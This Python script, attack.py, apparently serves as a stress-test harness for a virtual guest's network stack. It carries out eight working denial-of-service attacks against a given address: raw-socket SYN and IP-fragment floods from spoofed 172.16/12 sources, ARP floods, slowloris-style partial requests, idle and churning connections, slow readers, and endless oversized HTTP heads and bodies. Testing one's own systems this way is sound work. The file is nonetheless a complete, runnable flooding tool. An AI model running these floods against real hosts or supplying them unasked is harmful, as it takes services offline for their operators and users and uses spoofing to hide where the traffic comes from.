# SPDX-License-Identifier: ISC
# attack.py KIND SECONDS INTERFACE MAC GUEST - one kind of overload against 10.x.y.z GUEST for so long:
#   syn      segments that open connections, from addresses that never answer
#   arp      requests from every address of the network, each of another station
#   heads    clients that send a request's head a byte at a time and never finish it
#   idle     clients that connect and say nothing
#   connects clients that connect, leave and connect again
#   readers  clients that ask for a large page again and again and read nothing
#   fragments  first fragments of datagrams that never become whole, from everywhere
#   oversized  clients that send a head, a field or a body without end
# Says how much it did on standard output.
import os, random, select, socket, struct, sys, time

kind, seconds, interface, mac, guest = sys.argv[1], float(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
until = time.time() + seconds
guest_mac = bytes.fromhex(mac.replace(":", ""))
net = bytes(map(int, guest.split(".")))
done = 0

def summed(data):
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def syn():
    source = bytes([172, 16 + random.randrange(16), random.randrange(256), 1 + random.randrange(254)])
    tcp = struct.pack("!HHIIBBHHH", 1024 + random.randrange(60000), 80, random.getrandbits(32), 0, 0x60, 2, 65535, 0, 0) + b"\2\4\5\xb4"
    c = summed(source + net + struct.pack("!HH", 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, source, net)
    ip = ip[:10] + struct.pack("!H", summed(ip)) + ip[12:]
    return guest_mac + b"\2" + os.urandom(5) + b"\x08\0" + ip + tcp

def fragment():
    data = os.urandom(1480)
    source = bytes([172, 16 + random.randrange(16), random.randrange(256), 1 + random.randrange(254)])
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), random.getrandbits(16), 0x2000 | random.randrange(40) * 185, 64, 17, 0, source, net)
    ip = ip[:10] + struct.pack("!H", summed(ip)) + ip[12:]
    return guest_mac + b"\2" + os.urandom(5) + b"\x08\0" + ip + data

def arp():
    who = b"\2" + os.urandom(5)
    source = net[:2] + bytes([net[2], 3 + random.randrange(250)])
    return b"\xff" * 6 + who + b"\x08\6" + struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, 1, who, source, b"\0" * 6, net)

def connect():
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex((guest, 80))
    return s

def frames(make):
    global done
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((interface, 0))
    while time.time() < until:
        for _ in range(50):
            raw.send(make())
            done += 1
        time.sleep(0.005)

def clients(number, first, more):
    global done
    open_ones = set()
    while time.time() < until:
        while len(open_ones) < number:
            open_ones.add(connect())
            done += 1
        _, writable, _ = select.select([], open_ones, [], 0.2)
        for s in writable:
            try:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) or (not more and select.select([s], [], [], 0)[0] and not s.recv(1)):
                    raise OSError
                if kind == "connects":
                    raise OSError
                if first:
                    s.send(first if more is None else more)
            except OSError:
                open_ones.discard(s)
                s.close()
        time.sleep(0.01 if kind == "connects" else 0.1)

def oversized():
    global done
    begins = [b"GET /", b"GET / HTTP/1.1\r\nX: ", b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 9223372036854775807\r\n\r\n",
              b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nfffffff\r\n"]
    while time.time() < until:
        s = socket.socket()
        s.settimeout(1)
        try:
            s.connect((guest, 80))
            s.send(begins[done % len(begins)])
            for _ in range(64):
                s.send(b"x" * 16384)
        except OSError:
            pass                            # refused in the middle of it, as it should be
        s.close()
        done += 1

if kind in ("syn", "arp", "fragments"):
    frames({"syn": syn, "arp": arp, "fragments": fragment}[kind])
elif kind == "oversized":
    oversized()
elif kind == "heads":
    clients(400, b"GET / HTTP/1.1\r\n", b"x")
elif kind == "idle":
    clients(900, b"", b"")
elif kind == "connects":
    clients(200, b"", b"")
elif kind == "readers":
    clients(100, b"GET /large.bin HTTP/1.1\r\nHost: x\r\n\r\n", None)
print(done)
